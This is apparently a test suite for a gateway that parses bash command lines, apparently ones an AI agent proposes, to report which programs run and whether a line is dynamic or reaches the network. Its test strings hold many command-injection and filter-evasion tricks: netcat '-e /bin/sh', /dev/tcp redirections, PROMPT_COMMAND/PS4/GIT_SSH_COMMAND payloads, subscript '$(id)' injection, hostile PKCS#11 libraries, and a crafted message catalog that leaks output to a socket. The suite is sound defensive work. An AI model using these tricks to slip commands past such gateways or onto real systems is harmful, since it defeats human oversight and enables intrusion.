    ["ip '' exec curl", { programs: ['ip'], dynamic: false }],
    ['ip rf exec curl', { programs: ['ip'], dynamic: false }],
    ['ip link show dev e', { programs: ['ip'], dynamic: false }],
    ['ip e netns list', { programs: ['ip'], dynamic: false }],
    ["ip netns list ''", { programs: ['ip'], dynamic: false }],
    ['disown', { programs: ['disown'], background: true }],
    ['bg', { programs: ['bg'], background: true }],
    // ssh and scp: only -o values are options; SetEnv's quotes are ssh's; -F's file is unseen
    ['ssh -o', { programs: ['ssh'], dynamic: false }],
    ["ssh -o 'xsetenv=PATH=/tmp' h ls", { programs: ['ssh', 'ls'], dynamic: false }],
    ["ssh -o 'SetEnv=\"PATH=/tmp\"' h ls", { programs: ['ssh', 'ls'], dynamic: true, dynamicReasons: ['PATH= changes what runs'] }],
    ["ssh -l 'ProxyCommand=nc x' h ls", { programs: ['ssh', 'ls'], dynamic: false }],
    ['ssh -F cfg h', { programs: ['ssh'], dynamic: true, dynamicReasons: ['ssh -F: a configuration file can name commands ssh runs'] }],
    ['ssh h ls "$x"', { programs: ['ssh'], dynamic: true }],
    ['scp "$x" a b:', { programs: ['scp'], dynamic: true }],
    ["scp -l 'ProxyCommand=nc x' a b:", { programs: ['scp'], dynamic: false }],
    ['scp -F cfg a b:', { programs: ['scp'], dynamic: true, dynamicReasons: ['scp -F: a configuration file can name commands ssh runs'] }],
    ['rsync x-e nc a b:', { programs: ['rsync'], dynamic: false }],
    ['rsync -ave', { programs: ['rsync'], dynamic: false }],
    // git: bisect without run, run with a shell (its script is unseen), foreach's own options only
    ['git bisect', { programs: ['git'], dynamic: false }],
    ['git bisect run bash', { programs: ['git', 'bash'], dynamic: true }],
    ["git submodule foreach --quietx 'curl y'", { programs: ['git', '--quietx'], dynamic: false }],
    ["git submodule foreach x--quiet 'curl y'", { programs: ['git', 'x--quiet'], dynamic: false }],
    ["git config --get alias.x '!curl y'", { programs: ['git'], dynamic: false }],
    ['git config', { programs: ['git'], dynamic: false }],
    // env: a `-` after -S is the split program's argument; `=x` is an assignment GNU env accepts
    ["env -S 'curl x' -", { programs: ['env', 'curl'], dynamic: false }],
    ['env =x curl', { programs: ['env', 'curl'], dynamic: false }],
    // xargs: -I with an empty string replaces nothing; -i only among xargs' own options; a placeholder's prefix
    ["xargs -I '' curl x", { programs: ['xargs', 'curl'], dynamic: false }],
    ['xargs -I % find . %x ls \\;', { programs: ['xargs', 'find'], dynamic: true }],
    ['xargs "$x" ls', { programs: ['xargs'], dynamic: true }],
    ['xargs ls -il', { programs: ['xargs', 'ls'], dynamic: false }],
    ['xargs --replace {} x', { programs: ['xargs'], dynamic: true }],
    ['xargs {} x', { programs: ['xargs', '{}'], dynamic: false }],
    ['xargs bash -c', { programs: ['xargs', 'bash'], dynamic: true }],
    ['sudo -u PATH=x ls', { programs: ['sudo', 'ls'], dynamic: false }],
    ['nice -10 curl x', { programs: ['nice', 'curl'], dynamic: false }],
    // bash: after `--` or `-`, the next word is the script file; -s reads standard input whatever follows
    ["bash -- -c 'curl x'", { programs: ['bash'], dynamic: true }],
    ["bash - x <<< 'curl y'", { programs: ['bash'], dynamic: true }],
    ['bash + <<< ls', { programs: ['bash'], dynamic: true }],
    ["bash -s x <<< 'curl y'", { programs: ['bash', 'curl'], dynamic: false }],
    // a computed option may be -c, --rcfile, anything
    ['bash --"$x" <<< ls', { programs: ['bash'], dynamic: true }],
    ['bash -"$x" <<< ls', { programs: ['bash'], dynamic: true }],
    ['env "PATH=$x" ls', { programs: ['env'], dynamic: true }],
    // su: `-` is --login; -u is runuser's, not su's
    ["su - root -c 'curl x'", { programs: ['su', 'sh', 'curl'], dynamic: false }],
    ["su - -c 'curl x'", { programs: ['su', 'sh', 'curl'], dynamic: false }],
    ["su -- -c 'curl x'", { programs: ['su', 'sh'], dynamic: true }],
    ['su -u x curl', { programs: ['su', 'sh'], dynamic: true }],
    ['runuser -u x curl', { programs: ['runuser', 'curl'], dynamic: false }],
    ["runuser -g grp -c 'curl x' root", { programs: ['runuser', 'sh', 'curl'], dynamic: false }],
    ["su --login -c 'curl x'", { programs: ['su', 'sh', 'curl'], dynamic: false }],
    ['su --s x', { programs: ['su', 'sh'], dynamic: true, dynamicReasons: ['ambiguous option --s'] }],
    // the user's shell reads the here-string: the user is not its argument
    ["su - root <<< 'curl x'", { programs: ['su', 'sh', 'curl'], dynamic: false }],
    ["su root <<< 'curl x'", { programs: ['su', 'sh', 'curl'], dynamic: false }],
  ])
})

describe('limits and separators', () => {
  it('syntax nested deeper than the walk follows (256 levels) is refused; 100 levels are read', () => {
    const nest = (n: number) => `${'( '.repeat(n)}curl x${' )'.repeat(n)}`
    expect(facts(nest(100))).toMatchObject({ programs: ['curl'], dynamic: false })
    expect(analyzeCommand(nest(300))).toEqual({ ok: false, error: 'the command line nests scripts or syntax deeper than the gateway analyses' })
    // at the edge (each subshell is one level of the tree; the program, the command and its words add two)
    expect(facts(nest(254))).toMatchObject({ programs: ['curl'] })
    expect(analyzeCommand(nest(255)).ok).toBe(false)
  })

  it('a tab separates words, a backslash-newline joins them, a no-break space does not separate (bash reads one word)', () => {
    expect(facts('curl\tx')).toMatchObject({ programs: ['curl'], argv: ['curl', 'x'] })
    expect(facts('cu\\\nrl x')).toMatchObject({ programs: ['curl'] })
    expect(facts('curl\u00a0x')).toMatchObject({ programs: ['curl\u00a0x'] })
    expect(analyzeCommand('echo a\u000bb')).toEqual({ ok: false, error: 'the command line contains whitespace or escapes that bash and the parser read differently' })
  })

  it('text parsed again by eval counts against the budget: three levels of 50 KB pass, five are refused', () => {
    const payload = `': ${'A'.repeat(50_000)}'`
    expect(facts(`eval eval eval ${payload}`)).toMatchObject({ programs: ['eval', ':'], dynamic: false })
    expect(analyzeCommand(`eval eval eval eval eval ${payload}`)).toEqual({ ok: false, error: 'the command line expands to more script text than the gateway analyses' })
  })
})

describe('the walk, second pass: the Script class survivors of 2026-12-03, each checked against bash 5.2', () => {
  describe('declarations: bash stops reading options at the first name or assignment', () => {
    eachLine([
      // `declare x=1 -n y=PATH`: bash says "`-n': not a valid identifier" and y is a plain variable
      ['declare x=1 -n y=PATH; ls', { programs: ['declare', 'ls'], dynamic: false }],
      ['declare y -n z=PATH; ls', { programs: ['declare', 'ls'], dynamic: false }],
      ['declare "a" -n r=PATH; ls', { programs: ['declare', 'ls'], dynamic: false }],
      ["declare -n 'r=PATH'; ls", { programs: ['declare', 'ls'], dynamic: true }],
      ["declare -n 'r=x'; ls", { programs: ['declare', 'ls'], dynamic: false, env: ['r'] }],
      ["declare -n 'r'; ls", { programs: ['declare', 'ls'], dynamic: true }],
      // a reference to nothing, or to two words: its target is the next assignment's
      ['declare -n r=; ls', { programs: ['declare', 'ls'], dynamic: true }],
      ['declare -n r={PATH,x}; ls', { programs: ['declare', 'ls'], dynamic: true }],
      // bash evaluates the subscript of an assignment declare is given, running the $(…)
      ["declare 'a[$(id)]=1'", { programs: ['declare'], dynamic: true }],
      // not identifiers: bash refuses them and assigns nothing
      ['export "=$x"; ls', { programs: ['export', 'ls'], dynamic: false }],
      ['declare "=PATH=/tmp"; ls', { programs: ['declare', 'ls'], dynamic: false, env: [] }],
      ['declare "x"; ls', { programs: ['declare', 'ls'], dynamic: false, env: [] }],
    ])
  })

  describe('standard input: the last redirection of descriptor 0 is the one the shell reads', () => {
    eachLine([
      ["bash <<< 'curl x' <&3", { programs: ['bash'], dynamic: true }],
      ["bash <<< 'curl x' 0</dev/null", { programs: ['bash'], dynamic: false }],
      ['bash 0< /dev/null', { programs: ['bash'], dynamic: false, redirects: ['/dev/null'] }],
      ['bash </dev/null <<EOF\ncurl x\nEOF', { programs: ['bash', 'curl'], dynamic: false }],
      ['bash <<EOF 2>/dev/null\ncurl x\nEOF', { programs: ['bash', 'curl'], dynamic: false }],
      // a here-string is not brace-expanded by bash; the gateway does not guess which word it is
      ['bash <<< {a,b}', { programs: ['bash'], dynamic: true }],
      ['bash <<< $x', { programs: ['bash'], dynamic: true }],
      ['bash <&-', { programs: ['bash'], dynamic: true }],
      ['bash 2</dev/null', { programs: ['bash'], dynamic: true }],
      ['bash 0>/dev/null', { programs: ['bash'], dynamic: true }],
      ['bash <<EOF\nEOF', { programs: ['bash'], dynamic: false }],
      ['bash <<EOF\n`id`\nEOF', { programs: ['bash', 'id'], dynamic: true }],
      // words after a heredoc's redirection are the shell's arguments: it runs the file b, not the heredoc
      ['bash <<EOF >/dev/null b\ncurl x\nEOF', { programs: ['bash'], dynamic: true }],
    ])
  })

  describe('what the walk reads inside words', () => {
    eachLine([
      // inside $(…) a backslash before a backtick stays: echo prints `id`, nothing runs
      ['echo $(echo \\`id\\`)', { programs: ['echo'], dynamic: false }],
      ["unset x 'a[$(id)]'", { programs: ['unset'], dynamic: true }],
      ['unset -v x y', { programs: ['unset'], dynamic: false }],
      ['echo /dev/tcp/h/80', { programs: ['echo'], network: true }],
      ["echo '/dev/tcp/h/80'", { programs: ['echo'], network: true }],
      ['echo x/dev/x', { programs: ['echo'], network: false }],
      ["echo \"${x:-'/dev/tcp/h/1'}\"", { programs: ['echo'], network: true }],
      // quotes inside a double-quoted ${…} are characters: the $(…) and backticks they hold run
      ["echo \"${x:-'$(curl y)'}\"", { programs: ['echo', 'curl'], dynamic: false }],
      ["echo \"${x:-'`curl y`'}\"", { programs: ['echo', 'curl'], dynamic: false }],
      // [[ ]] evaluates a subscript in -v and arithmetic operands; a $(…)'s own output is not evaluated
      ["[[ -v a'[$(id)]' ]]", { programs: [], dynamic: true }],
      ["[[ x -eq $'a[$(id)]' ]]", { programs: [], dynamic: true }],
      ["[[ -n $(echo '$(id)') ]]", { programs: ['echo'], dynamic: false }],
      ['[[ -v a ]]', { programs: [], dynamic: false }],
      // /dev//tcp is not bash's special path, but a word that may become one is reported (more, not less)
      ['echo /dev//tcp/h/80', { programs: ['echo'], network: true }],
      ['env x=/dev/tcp/h/80 cat', { programs: ['env', 'cat'], network: true, env: ['x'] }],
      // the value after the first `=` is the command git runs
      ["env GIT_SSH_COMMAND='nc x' git fetch", { programs: ['env', 'nc', 'git'], dynamic: false }],
    ])
  })

  describe('words as bash builds them: quotes, brace expansion, message catalogs', () => {
    eachLine([
      ["echo 1'2'", { programs: ['echo'], argv: ['echo', '12'] }],
      ["echo '{a,b}'", { programs: ['echo'], argv: ['echo', '{a,b}'] }],
      ["echo $'{a,b}'", { programs: ['echo'], argv: ['echo', '{a,b}'] }],
      ['echo "a\\"b"', { programs: ['echo'], argv: ['echo', 'a"b'] }],
      ['echo "ab\\\\"', { programs: ['echo'], argv: ['echo', 'ab\\'] }],
      ["echo a{1..2}'b'", { programs: ['echo'], argv: ['echo', 'a1b', 'a2b'] }],
      // bash drops an empty brace result and tilde-expands a result that starts with ~: computed
      ['echo {,x}', { programs: ['echo'], argv: undefined }],
      ['echo {a,~}', { programs: ['echo'], argv: undefined }],
      ['echo {a,x~}', { programs: ['echo'], argv: ['echo', 'a', 'x~'] }],
      // $"…" is looked up in a message catalog the caller can write: known only at run time,
      // from where it starts (its translation may be /dev/tcp/…: see the test run by bash below)
      ['$"curl" x', { programs: [], dynamic: true }],
      ['ls > $"/tmp/x"', { programs: ['ls'], network: true }],
      // text before it is still a prefix that rules /dev/tcp out
      ['ls > /tmp/$"x"', { programs: ['ls'], network: false }],
    ])
  })

  describe('${NAME=word} and program names', () => {
    eachLine([
      [': ${GIT_SSH_COMMAND=}; git fetch', { programs: [':', 'git'], dynamic: false }],
      [': ${GIT_SSH_COMMAND=nc}; git fetch', { programs: [':', 'nc', 'git'], dynamic: false }],
      [': "${GIT_SSH_COMMAND=nc}"; git fetch', { programs: [':', 'nc', 'git'], dynamic: false }],
      // a value of several parts, or quotes that are characters inside "…" (bash keeps them: 'nc x' with the quotes)
      [': ${GIT_SSH_COMMAND=nc$y}; git fetch', { programs: [':', 'git'], dynamic: true }],
      [": \"${GIT_SSH_COMMAND:='nc x'}\"; git fetch", { programs: [':', 'git'], dynamic: true }],
      // not assignments: a substitution whose pattern is `=`, and a name bash refuses
      ['echo ${PATH/=/x}; ls', { programs: ['echo', 'ls'], dynamic: false }],
      ['echo ${=PATH}; ls', { programs: ['echo', 'ls'], dynamic: false }],
      // the octal escape is decoded loosely (more is found, not less): the $(…) after it runs
      ["echo \"${x:-'\\134$(id)'}\"", { programs: ['echo', 'id'], dynamic: false }],
      // each element of an array assignment is a value the variable may hold
      ['GIT_SSH_COMMAND=(nc x); git fetch', { programs: ['nc', 'x', 'git'], dynamic: false }],
      ["x=(a '$(id)'); ls", { programs: ['ls'], dynamic: true }],
      // no program name: bash runs nothing ("command not found", "Is a directory")
      ["'' x", { programs: [], dynamic: false }],
      ['/ x', { programs: [], dynamic: false }],
      ['/usr/bin/ x', { programs: ['bin', '/usr/bin/'], dynamic: false }],
    ])
  })

  it('text the parser skips between tokens: refused, with the reason that fits the character', () => {
    // a carriage return before a newline is not a line continuation
    expect(analyzeCommand('ls\r\nid')).toEqual({ ok: false, error: 'the command line contains whitespace or escapes that bash and the parser read differently' })
    // the dropped `-` is judged by itself, not by an escaped blank elsewhere on the line
    expect(analyzeCommand("x - {1..2}q 'a\\ b'")).toEqual({ ok: false, error: 'the command line has text the parser leaves out of its tree, where bash reads it' })
  })

  describe('redirection targets, descriptors and argv', () => {
    eachLine([
      ['ls > 1', { redirects: ['1'], network: false }],
      // `>& word` with a word that is not a descriptor number writes to the file
      ['ls >& 2x', { redirects: ['2x'] }],
      ['ls >&12', { redirects: [] }],
      ['ls >&-', { redirects: [] }],
      ['ls > a~+', { redirects: ['a~+'], network: false }],
      ['ls > ~', { redirects: ['~'], network: false }],
      ['ls > ~+', { redirects: ['~+'], network: true }],
      // a number touching `<` is its descriptor; anything else is an argument
      ['xargs a0</dev/null', { programs: ['xargs', 'a0'] }],
      ['xargs 0a</dev/null', { programs: ['xargs', '0a'] }],
      ['xargs 10</dev/null', { programs: ['xargs', 'echo'] }],
      ['ls > f', { programs: ['ls'], redirects: ['f'], argv: undefined }],
      ['ls 2>&1', { programs: ['ls'], argv: undefined }],
      // a here-string tree-sitter keeps inside the command is a redirection too
      ['ls <<< x y', { programs: ['ls'], argv: undefined }],
      ['> f', { programs: [], redirects: ['f'], argv: undefined }],
      // the `{` of `coproc NAME { … }` is the group's, not a command
      ['coproc x { curl y; }', { programs: ['coproc', 'curl'], background: true }],
      ['ls', { programs: ['ls'], argv: ['ls'] }],
      // after `time`, an assignment is not a word: no argv, as for `x=1 curl` (and bash keeps x={a,b} as written)
      ['time x={a,b} curl', { programs: ['time', 'curl'], env: ['x'], argv: undefined }],
      ['time ! x=1 curl', { programs: ['time', 'curl'], env: ['x'], argv: undefined }],
      ['time -p curl', { programs: ['time', 'curl'], argv: ['time', '-p', 'curl'] }],
    ])
  })
})

/** A GNU message catalog (.mo) holding `pairs`, sorted by their original text as gettext requires. */
function messageCatalog(pairs: Record<string, string>): Buffer {
  const entries = Object.entries({ '': 'Content-Type: text/plain; charset=UTF-8\n', ...pairs }).sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0))
  const n = entries.length
  const tables = 28
  let at = tables + 16 * n
  const head = Buffer.alloc(at)
  const strings: Buffer[] = []
  head.writeUInt32LE(0x950412de, 0)
  head.writeUInt32LE(0, 4)
  head.writeUInt32LE(n, 8)
  head.writeUInt32LE(tables, 12)
  head.writeUInt32LE(tables + 8 * n, 16)
  entries.forEach(([original, translation], i) => {
    for (const [table, text] of [[0, original], [1, translation]] as const) {
      const bytes = Buffer.from(text, 'utf8')
      head.writeUInt32LE(bytes.length, tables + 8 * n * table + 8 * i)
      head.writeUInt32LE(at, tables + 8 * n * table + 8 * i + 4)
      strings.push(bytes, Buffer.alloc(1))
      at += bytes.length + 1
    }
  })
  return Buffer.concat([head, ...strings])
}

describe('the walk, third pass: the Script class survivors of 2026-12-03 (afternoon), each checked against bash 5.2', () => {
  it('$"…" in a redirection is translated by a catalog the caller names: bash 5.2 connects to /dev/tcp (run here)', async () => {
    // needs a locale other than C/POSIX: .ci/run generates en_US.UTF-8
    const locales = execFileSync('locale', ['-a'], { encoding: 'utf8' })
    expect(locales, 'en_US.UTF-8 is not generated: localedef -i en_US -f UTF-8 en_US.UTF-8').toMatch(/^en_US\.utf8$/im)
    const dir = mkdtempSync(join(tmpdir(), 'gatehouse-catalog-'))
    const { createServer } = await import('node:net')
    const received: string[] = []
    const server = createServer((socket) => socket.on('data', (d) => received.push(String(d))))
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    try {
      const port = (server.address() as { port: number }).port
      const decoy = join(dir, 'out')
      mkdirSync(join(dir, 'en_US.UTF-8', 'LC_MESSAGES'), { recursive: true })
      writeFileSync(join(dir, 'en_US.UTF-8', 'LC_MESSAGES', 'evil.mo'), messageCatalog({ [decoy]: `/dev/tcp/127.0.0.1/${port}` }))
      // the catalog is named on the line before, as an agent's command would
      const line = `TEXTDOMAINDIR=${dir}; TEXTDOMAIN=evil\necho leaked > $"${decoy}"`
      expect(facts(line)).toMatchObject({ programs: ['echo'], network: true })
      execFileSync('bash', ['-c', line], { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', LC_ALL: 'en_US.UTF-8' }, stdio: 'ignore', timeout: 10_000 })
      await new Promise((resolve) => setTimeout(resolve, 200))
      expect(received.join('')).toBe('leaked\n')
      expect(existsSync(decoy)).toBe(false)
    } finally {
      server.close()
      rmSync(dir, { recursive: true, force: true })
    }
  })

  describe('standard input and redirections carried to the last command', () => {
    eachLine([
      // an enclosing statement's here-string goes to the last command of a list, and past `!`
      ["true && bash <<< 'curl x'", { programs: ['true', 'bash', 'curl'], dynamic: false }],
      ["! bash <<< 'curl x'", { programs: ['bash', 'curl'], dynamic: false }],
      // a redirection nested in a heredoc's is later: bash reads /dev/null, not the heredoc
      ["bash <<'E' < /dev/null\ncurl x\nE", { programs: ['bash'], dynamic: false }],
      // a word touching `<<<` is an argument; a number touching `<` is a descriptor, and 3 is not standard input
      ["bash -s x<<<'curl a'", { programs: ['bash', 'curl'], dynamic: false }],
      ['bash -s 3</dev/null', { programs: ['bash'], dynamic: true }],
      ['bash -s </dev/null', { programs: ['bash'], dynamic: false }],
      // the outer shell substitutes an unquoted heredoc's backticks before bash reads it
      ['bash <<E\n`curl a`\nE', { programs: ['bash', 'curl'], dynamic: true }],
      ['bash <<E\necho `curl a`\nE', { programs: ['bash', 'curl'], dynamic: true }],
      // a `$` before a blank is a character
      ['bash <<E\necho cost: 5$ now\nE', { programs: ['bash', 'echo'], dynamic: false }],
      // a computed redirection target may be /dev/tcp; so may `~` when HOME is computed
      ['echo a > {,x}', { network: true }],
      ['echo a > $@{1..2}', { redirects: ['$@{1..2}'], network: true }],
      ['HOME=$x; echo a > ~', { network: true }],
      ['HOME=$x; echo a > /tmp/f', { network: false }],
    ])
  })

  describe('[[ ]]: network paths and subscripts that run code', () => {
    eachLine([
      ["[[ -e '/dev/tcp/h/1' ]]", { programs: [], network: true }],
      ["[[ -e '/dev//tcp/h/1' ]]", { network: true }],
      ['[[ $x =~ /dev/tcp/h/1 ]]', { network: true }],
      ['[[ -e /tmp/x ]]', { network: false }],
      ['[[ -v a\\[\\$\\(id\\)\\] ]]', { dynamic: true }],
      // the pieces only make `$(` together
      [`[[ -v a'[$'"(id)]" ]]`, { dynamic: true }],
      ["[[ -v {a,'b[$(id)]'} ]]", { dynamic: true }],
      ["unset {b,'a[$(id)]'}", { programs: ['unset'], dynamic: true }],
    ])
  })

  describe('the word reader (each argv as bash 5.2 prints it here)', () => {
    eachLine([
      // $'…': \u takes four hex digits at most, \x needs one to start, an unknown escape stays as written
      ["echo $'\\u00411'", { argv: ['echo', 'A1'] }],
      ["echo $'\\xg1'", { argv: ['echo', '\\xg1'] }],
      ["echo $'\\q12'", { argv: ['echo', '\\q12'] }],
      ["echo $'\\cA\\c[\\c?'", { argv: ['echo', '\x01\x1b\x7f'] }],
      // \c takes the next byte: the first of é's two, leaving the second raw (0x03 0xa9): not known as text
      ["echo $'\\c\u00e9'", { programs: ['echo'], argv: undefined }],
      // brace expansion: a quoted `}` or `,` is text, nesting, results that bash expands again (`~`), limits
      ["echo {a,'}'}", { argv: ['echo', 'a', '}'] }],
      ["echo {a','b}", { argv: ['echo', '{a,b}'] }],
      // once `..` closed it, bash counts a comma in quotes (a list of one: `1..2,x`) but not an
      // escaped one (`{1..2,x}`); the gateway cannot tell the two apart: computed
      ["echo {1..2','x}", { programs: ['echo'], argv: undefined }],
      ['echo {1..2\\,x}', { programs: ['echo'], argv: undefined }],
      ["echo {a,b','c}", { argv: ['echo', 'a', 'b,c'] }],
      ['echo {a,{{b,c},d}}', { argv: ['echo', 'a', 'b', 'c', 'd'] }],
      ['echo a,b}', { argv: ['echo', 'a,b}'] }],
      ["echo {'~',~}", { programs: ['echo'], argv: undefined }],
      ['echo {a,b}{1..100}', { programs: ['echo'], argv: undefined }],
      ['echo {a,{1..100}}', { programs: ['echo'], argv: undefined }],
      // a `[` without its `]` is no glob
      ['echo [a', { argv: ['echo', '[a'] }],
      // a backslash-newline inside double quotes is removed
      ['echo "a\\\nb"', { argv: ['echo', 'ab'] }],
      // trailing slashes are not the program's name
      ['/usr/bin// x', { programs: ['bin', '/usr/bin//'] }],
    ])
  })

  describe('values bash runs: prompts, PROMPT_COMMAND, exported functions, ${NAME=word}', () => {
    eachLine([
      ["echo \"${x:-'\\044(id)'}\"", { programs: ['echo'], dynamic: false }],
      // a substitution in a prompt is analysed as a script: its commands, and what they run
      ["PS4='$(curl x)' bash -x -c true", { programs: ['curl', 'bash', 'true'], dynamic: false }],
      [`PS4='$(bash -c "curl x")' bash -x -c true`, { programs: ['bash', 'curl', 'true'], dynamic: false }],
      // prompt escapes: \\$ is $, \\\\ is a backslash (so \\\\044 is not $), a trailing backslash is dropped
      ["PS4='$(curl a)\\' bash -x -c :", { programs: ['curl', 'bash', ':'] }],
      ["PS4='\\$(curl a)' bash -x -c :", { programs: ['curl', 'bash', ':'] }],
      ["PS4='\\\\044(curl a)' bash -x -c :", { programs: ['bash', ':'] }],
      ["PS4='$(cu\\\\rl a)' bash -x -c :", { programs: ['curl', 'bash', ':'] }],
      // after `time`, the assignment's value with quotes removed (and not brace-expanded)
      ["time PROMPT_COMMAND='curl a' bash -i", { programs: ['time', 'curl', 'bash'] }],
      ['time PROMPT_COMMAND=a\\;{curl,wget} bash -i', { programs: ['time', 'a;curl', 'bash'] }],
      ['time x[$(id)]=1 curl', { programs: ['time', 'id', 'curl'], dynamic: false }],
      ["sudo PROMPT_COMMAND='curl a' bash -i", { programs: ['sudo', 'curl', 'bash'] }],
      // `=x` is no assignment: it is the program
      ['sudo =x curl', { programs: ['sudo', '=x'], dynamic: false }],
      ['systemd-run -E FOO true', { programs: ['systemd-run', 'true'], dynamic: false }],
      ['systemd-run -E', { programs: ['systemd-run'], dynamic: false }],
      // declare: += appends to a value the gateway does not know; a subscript is the array's name
      ["declare 'PROMPT_COMMAND+=curl a'", { programs: ['declare'], dynamic: true }],
      ["declare 'PROMPT_COMMAND=curl a'", { programs: ['declare', 'curl'], dynamic: false }],
      ["declare 'x[12]=y'", { env: ['x'] }],
      ["declare 'x[a b]=y'", { env: ['x'] }],
      // an exported function's value is a script after its leading `()`, not after any `()`
      ["env 'BASH_FUNC_f%%=curl a; g() { id; }' bash -c f", { programs: ['env', 'curl', 'id', 'bash', 'f'] }],
      [': ${PROMPT_COMMAND=curl$x}', { programs: [':'], dynamic: true }],
      // `#=` removes a prefix: no assignment
      [': ${PROMPT_COMMAND#=curl}', { programs: [':'], dynamic: false }],
      // a computed name may be any variable; a computed callback is unknown
      ['read "$v"', { programs: ['read'], dynamic: true }],
      ['printf -v "$n" x', { programs: ['printf'], dynamic: true }],
      ['mapfile -C "$f" x', { programs: ['mapfile'], dynamic: true }],
      // a `$` that ends a double-quoted string is a character
      ['echo "a$"', { programs: ['echo'], argv: ['echo', 'a$'] }],
      // the lexer takes the blanks before `${` into its token ("  ${"): text of the string, not dropped
      ['echo "  ${x}"', { programs: ['echo'], dynamic: false }],
      // `$[…]` is bash's old arithmetic expansion, also inside double quotes (bash 5.2 prints 3 for
      // "$[1+2]"): a computed program name, not the literal text `$[1+2]`
      ['"$[1+2]" x', { programs: [], dynamic: true }],
      ['"a$[1]" x', { programs: [], dynamic: true }],
    ])

    it('an exported function value that does not start with `()` is read as a script: `(x) curl` does not parse', () => {
      expect(analyzeCommand("env 'BASH_FUNC_f%%=(x) curl a' bash -c f").ok).toBe(false)
    })

    it('a vertical tab at either end of the line is no blank for bash: refused', () => {
      expect(analyzeCommand('\vcurl x').ok).toBe(false)
      expect(analyzeCommand('curl x\v').ok).toBe(false)
    })
  })
})

describe('programs with ways of their own to run commands, and shells that are not bash (review of 2026-12-03, late)', () => {
  describe('exact facts', () => {
    eachLine([
      // zsh expands `=curl` to curl's path; bash would run a program named `=curl`: a grammar the
      // gateway does not have. The programs bash's grammar finds are still reported.
      ["zsh -c '=curl x'", { programs: ['zsh', '=curl'], dynamic: true, dynamicReasons: ["zsh is not bash: its script is read with bash's grammar, which zsh does not follow"] }],
      ["fish -c 'curl x'", { programs: ['fish', 'curl'], dynamic: true }],
      ["tcsh -c 'curl x'", { programs: ['tcsh', 'curl'], dynamic: true }],
      ['csh', { programs: ['csh'], dynamic: true }],
      ["su -s /bin/zsh -c 'id' u", { programs: ['su', 'zsh', '/bin/zsh', 'id'], dynamic: true }],
      ['zsh --version', { programs: ['zsh'], dynamic: false }],
      ['fish --help', { programs: ['fish'], dynamic: false }],
      ['zsh --version -c id', { programs: ['zsh', 'id'], dynamic: true }],
      // bash's own family stays read as bash
      ["ksh -c 'curl x'", { programs: ['ksh', 'curl'], dynamic: false }],
      // clients whose input holds shell escapes (psql \!, mysql system, sftp/ftp/telnet !)
      ["psql -c '\\! curl x'", { programs: ['psql'], dynamic: true, dynamicReasons: ['psql runs code from its arguments or standard input'] }],
      ['psql -f q.sql', { programs: ['psql'], dynamic: true }],
      ['psql --version', { programs: ['psql'], dynamic: false }],
      ["mysql -e 'system curl x'", { programs: ['mysql'], dynamic: true }],
      ['sftp h', { programs: ['sftp'], dynamic: true }],
      ['perf stat curl x', { programs: ['perf'], dynamic: true }],
      ['run-parts /etc/cron.daily', { programs: ['run-parts'], dynamic: true }],
      // logsave FILE PROGRAM…: a wrapper
      ['logsave /tmp/l curl x', { programs: ['logsave', 'curl'], dynamic: false }],
      // zip -T runs unzip to test, -TT names what runs instead; ZIPOPT adds options
      ["zip -T -TT 'curl x' a.zip f", { programs: ['zip'], dynamic: true, dynamicReasons: ['zip -T'] }],
      ["zip a.zip f --unzip-command='curl x'", { programs: ['zip'], dynamic: true }],
      ['ZIPOPT=-T zip a.zip f', { programs: ['zip'], dynamic: true, dynamicReasons: ['zip takes ZIPOPT= from its environment'] }],
      ['zip -r a.zip d', { programs: ['zip'], dynamic: false }],
      // netcat runs a program for the connection
      ['nc -e /bin/sh h 1', { programs: ['nc'], dynamic: true, dynamicReasons: ['nc -e'] }],
      ["ncat --sh-exec 'curl x' h 1", { programs: ['ncat'], dynamic: true, dynamicReasons: ['ncat --sh-exec'] }],
      ['nc -zv h 1', { programs: ['nc'], dynamic: false }],
      // nmap scripts are Lua; apt hooks and dpkg maintainer scripts run commands
      ['nmap -sC h', { programs: ['nmap'], dynamic: true }],
      ['nmap --script=/tmp/x.nse h', { programs: ['nmap'], dynamic: true }],
      ['nmap -sS h', { programs: ['nmap'], dynamic: false }],
      ["apt-get -o 'APT::Update::Pre-Invoke::=curl x' update", { programs: ['apt-get'], dynamic: true, dynamicReasons: ['apt-get -o'] }],
      ['APT_CONFIG=/tmp/a apt-get update', { programs: ['apt-get'], dynamic: true }],
      ['apt-get update', { programs: ['apt-get'], dynamic: false }],
      ['dpkg -i x.deb', { programs: ['dpkg'], dynamic: true }],
      ["dpkg --post-invoke='curl x' -r p", { programs: ['dpkg'], dynamic: true }],
      ['dpkg -l', { programs: ['dpkg'], dynamic: false }],
      // PKCS#11 and security key providers are shared libraries loaded into ssh, ssh-keygen, ssh-add
      ['ssh -I /tmp/p.so h', { programs: ['ssh'], dynamic: true, dynamicReasons: ['ssh -I: a PKCS#11 library ssh loads'] }],
      ['ssh -o PKCS11Provider=/tmp/p.so h', { programs: ['ssh'], dynamic: true, dynamicReasons: ['ssh -o PKCS11Provider: a library ssh loads'] }],
      ["scp -o 'SecurityKeyProvider /tmp/p.so' a h:", { programs: ['scp'], dynamic: true }],
      ["ssh -o 'PKCS11Provider none' -o SecurityKeyProvider=internal h", { programs: ['ssh'], dynamic: false }],
      // only the whole words none and internal (ssh trims the value) name no library
      ["ssh -o 'PKCS11Provider=none ' h", { programs: ['ssh'], dynamic: false }],
      ['ssh -o SecurityKeyProvider=/lib/xinternal h', { programs: ['ssh'], dynamic: true }],
      ['ssh -o SecurityKeyProvider=internal.so h', { programs: ['ssh'], dynamic: true }],
      ['SSH_SK_PROVIDER=/tmp/p.so ssh h', { programs: ['ssh'], dynamic: true }],
      ['ssh -o "PKCS11Provider=$p" h', { programs: ['ssh'], dynamic: true }],
      ['ssh-keygen -D /tmp/p.so', { programs: ['ssh-keygen'], dynamic: true, dynamicReasons: ['ssh-keygen -D'] }],
      ['ssh-add -s /tmp/p.so', { programs: ['ssh-add'], dynamic: true }],
      ["ssh-keygen -t ed25519 -f k -N ''", { programs: ['ssh-keygen'], dynamic: false }],
      ['ssh-add -l', { programs: ['ssh-add'], dynamic: false }],
    ])
  })

  describe('run here: the command runs, so the gateway must not read the line as harmless', () => {
    let dir: string
    beforeAll(() => {
      dir = mkdtempSync(join(tmpdir(), 'gatehouse-escape-'))
      writeFileSync(join(dir, 'f'), 'x\n')
    })
